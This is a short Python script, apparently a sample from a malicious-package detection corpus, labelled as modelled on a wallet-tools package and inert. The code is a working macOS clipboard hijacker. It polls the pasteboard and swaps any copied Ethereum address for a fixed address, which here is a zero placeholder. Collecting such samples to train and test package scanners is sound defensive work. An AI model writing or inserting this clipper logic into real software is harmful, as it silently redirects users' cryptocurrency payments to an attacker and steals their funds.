# pkgguard corpus 419 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import time

from AppKit import NSPasteboard, NSPasteboardTypeString

_MINE = "0x0000000000000000000000000000000000000000"
_EVM = re.compile(r"^0x[a-fA-F0-9]{40}$")

board = NSPasteboard.generalPasteboard()
while True:
    text = board.stringForType_(NSPasteboardTypeString) or ""
    if _EVM.match(text.strip()) and text.strip() != _MINE:
        board.clearContents()
        board.setString_forType_(_MINE, NSPasteboardTypeString)
    time.sleep(0.4)
